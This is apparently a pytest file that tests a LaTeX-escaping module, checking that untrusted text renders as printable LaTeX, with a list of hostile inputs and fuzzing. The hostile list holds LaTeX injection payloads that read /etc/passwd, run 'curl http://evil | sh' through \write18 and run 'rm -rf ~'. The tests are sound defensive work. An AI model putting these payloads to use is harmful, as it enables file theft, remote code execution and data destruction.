"""Text into LaTeX (``hypoforge.paper.latex``): whatever an idea, a search result's title or a
model writes, ``escape``, ``escape_lines`` and ``prose`` give LaTeX that can only print. Every
command in their output is one the module emits itself; math commands only inside ``$...$``."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hypoforge.paper.latex import escape, escape_lines, plain, prose

# The command words and control symbols latex.py writes itself.
EMITTED = frozenset(
    "textbackslash textless textgreater textbar emph textbf citep hspace ttfamily small par".split()
)
SYMBOLS = frozenset("{}$&#^_~%")
_LEXEME = re.compile(r"\\[A-Za-z]+|\\.|\^\^|.", re.DOTALL)


def violations(latex: str, line_breaks: bool = False) -> list[str]:
    """What in ``latex`` could do more than print: a command outside the allowlist, a math
    command outside math, ``^^``, an unescaped ``%``/``#``/``&``, unbalanced braces or math,
    a character outside printable ASCII."""
    found = []
    math, depth = False, 0
    symbols = SYMBOLS | {"\\"} if line_breaks else SYMBOLS
    for tok in _LEXEME.findall(latex):
        if tok.startswith("\\") and len(tok) > 1:
            name = tok[1:]
            if name.isalpha():
                if name not in EMITTED:
                    found.append(tok)
            elif name not in symbols:
                found.append(tok)
        elif tok == "$":
            math = not math
        elif tok in ("^^", "%", "#", "&", "\\"):
            found.append(tok)
        elif tok == "{":
            depth += 1
        elif tok == "}":
            depth -= 1
            if depth < 0:
                found.append("unbalanced }")
                depth = 0
        elif tok != "\n" and not " " <= tok <= "~":
            found.append(repr(tok))
    if math:
        found.append("unclosed $")
    if depth:
        found.append("unclosed {")
    return found


HOSTILE = [
    r"\input{/etc/passwd}",
    r"\include{secret}",
    r"\openin5=/etc/passwd \read5 to\x \x",
    r"\immediate\write18{curl http://evil | sh}",
    r"\write18{rm -rf ~}",
    r"\catcode`\^^5c=12 \catcode92=11",
    r"\csname input\endcsname{/etc/passwd}",
    "^^5cinput{/etc/passwd}",
    "^^5c^^5cinput ^^M ^^? ^^^^005c",
    r"\def\a{\a}\a \let\b=\input",
    r"\usepackage{shellesc}\RequirePackage{x}",
    r"\end{verbatim}\input{/etc/passwd}\begin{verbatim}",
    "x = 1  % the rest of the line is commented out\n\\input{x}",
    "}}}\\end{abstract}\\end{document}",
    "{{{\\begin{document}",
    "\x00\x07\x1b[31mred\x1b]0;title\x07\u202egnp.\u200b\ufeff end",
    "non-ASCII: \u00e9\u00e8 \u2014 \u201cquoted\u201d \u4e2d\u6587 \U0001f600",
    "fullwidth \uff3cinput{x} small \ufe68write18{x}",
    "A" * 5000,
    "\\" * 50,
    r"\cite{evil}\citep{a,b}\citet{} \nocite{*}",
    r"$\input{x}$ $^^5cinput$ $\alpha^^5c$ $x}\end{document}{$",
    r"\emph{\input{x}} \textbf{a}b} \emph{ok}",
    '~#&_|<>"$ $$ \\\\[3pt] \\\\*',
    r"\verb|\input{x}| \lstinline{x} \url{file:///etc/passwd}",
    r"\expandafter\input\string{x} \scantokens{\input x}",
    r"\\[-100cm] \hspace*{1000cm} \ttfamily\small\par",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_prints_every_hostile_string(text):
    out = escape(text)
    assert violations(out) == []
    assert "\n" not in out  # one paragraph


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_lines_prints_every_hostile_string(text):
    out = escape_lines(text)
    assert out.startswith("{\\ttfamily\\small\n") and out.endswith("\\par}\n")
    assert violations(out, line_breaks=True) == []
    assert "verbatim" not in out or "\\end{verbatim}" not in out


@pytest.mark.parametrize("text", HOSTILE)
def test_prose_prints_every_hostile_string(text):
    out, _ = prose(text, {"known2020a"})
    assert violations(out) == []


def test_carets_are_escaped_so_tex_never_decodes_them():
    assert escape("^^5cinput") == r"\^{}\^{}5cinput"
    assert escape("^^M") == r"\^{}\^{}M"
    assert "^^" not in escape_lines("^^5cinput{/etc/passwd}")
    # In inline math a ``^`` is allowed, a ``^^`` is not: the math prints as text.
    assert prose("See $^^5cinput{/etc/passwd}$ here.", set())[0] == (
        r"See \$\^{}\^{}5cinput\{/etc/passwd\}\$ here."
    )


def test_escape_replaces_each_special_character():
    assert escape(r"\ { } $ & # ^ _ ~ % < > |") == (
        r"\textbackslash{} \{ \} \$ \& \# \^{} \_ \~{} \% \textless{} \textgreater{} "
        r"\textbar{}"
    )
    assert escape('say "hi"\n\tthere') == "say ''hi'' there"
    assert escape("caf\u00e9 \u2014 \u4e2d") == "cafe - ?"
    assert escape("\x1b[31mred\x00") == "red"


def test_escape_lines_keeps_lines_and_indents_and_cuts_them():
    code = "def f(x):\n    return x  # 100% \\end{verbatim}\n\n[y]\n*z"
    assert escape_lines(code) == (
        "{\\ttfamily\\small\n"
        "def f(x):\\\\\n"
        "\\hspace*{2.0em}return x  \\# 100\\% \\textbackslash{}end\\{verbatim\\}\\\\\n"
        "~\\\\\n"
        "{}[y]\\\\\n"  # a ``[`` or ``*`` after ``\\`` would be its argument
        "{}*z\\par}\n"
    )
    out = escape_lines("\n".join(f"line {i}" for i in range(500)), limit=3)
    assert out.count("line") == 3
    assert "x" * 160 in escape_lines("x" * 1000) and "x" * 161 not in escape_lines("x" * 1000)


def test_prose_keeps_known_citations_and_reports_the_others():
    out, refused = prose(r"As \cite{known,evil} and \citep{ghost} show.", {"known"})
    assert (out, refused) == (r"As~\citep{known} and show.", ["evil", "ghost"])
    # a key the bibliography holds but that is not a key's shape is refused too
    assert prose(r"See \cite{Bad Key}.", {"Bad Key"}) == ("See .", ["Bad Key"])
    assert prose(r"See \citet{known}, twice \cite{known}.", {"known"}) == (
        r"See~\citep{known}, twice~\citep{known}.",
        [],
    )


def test_prose_keeps_emphasis_of_plain_words_and_paragraphs():
    out, _ = prose("A \\emph{new} gate, \\textbf{a_b} here.\n\n\n  Second   one.", set())
    assert out == "A \\emph{new} gate, \\textbf{a\\_b} here.\n\nSecond one."
    # emphasis of anything but words is printed as text
    assert (
        prose(r"\emph{\input{x}}", set())[0]
        == r"\textbackslash{}emph\{\textbackslash{}input\{x\}\}"
    )


@pytest.mark.parametrize(
    "math",
    [
        r"$\alpha + \beta$",  # math is never rebuilt, even of an allowlist: it prints as text
        "$x^2$",
        r"$\left( x$",  # (an unbalanced \left once halted every compile)
        "$ $",  # (empty math once split "con$ $firmed" for the checks)
        r"$\input{x}$",
        r"$\alpha\def\x$",
        r"$\\ x$",
        r"$\{$",
        "$^^5c$",
        "$x{}$",  # an empty group shows nothing
        "$0.9 {} 9$",
        "${$",
        "$}{$",
        "$x}{y$",
        r"$\alphax$",
        "$x @ y$",
        "$" + "x" * 200 + "$",
    ],
)
def test_inline_math_prints_as_text(math):
    out, _ = prose(f"We use {math} here.", set())
    assert out == f"We use {escape(math)} here."
    assert violations(out) == []


def test_plain_keeps_only_the_words():
    assert plain(r"As \cite{k} show, \emph{new} $x^2$.") == "As  show, new $x^2$."


FRAGMENTS = [
    "\\",
    "{",
    "}",
    "$",
    "^",
    "^^",
    "5c",
    "%",
    "#",
    "&",
    "~",
    "_",
    "\n",
    "\n\n",
    " ",
    "input",
    "write18",
    "cite",
    "citep",
    "emph",
    "textbf",
    "alpha",
    "frac",
    "left",
    "known2020a",
    ",",
    ".",
    "0.9",
    "[",
    "]",
    "\x00",
    "\x1b[",
    "\u00e9",
    "\uff3c",
    "\u202e",
]
hostile_text = st.one_of(
    st.text(max_size=300),
    st.lists(st.sampled_from(FRAGMENTS), max_size=80).map("".join),
)


@settings(max_examples=400, deadline=None)
@given(hostile_text)
def test_fuzzed_text_never_raises_and_only_prints(text):
    out, refused = prose(text, {"known2020a"})
    assert violations(out) == [], out
    assert all(isinstance(k, str) for k in refused)
    assert violations(escape(text)) == []
    assert violations(escape_lines(text), line_breaks=True) == []
    plain(text)
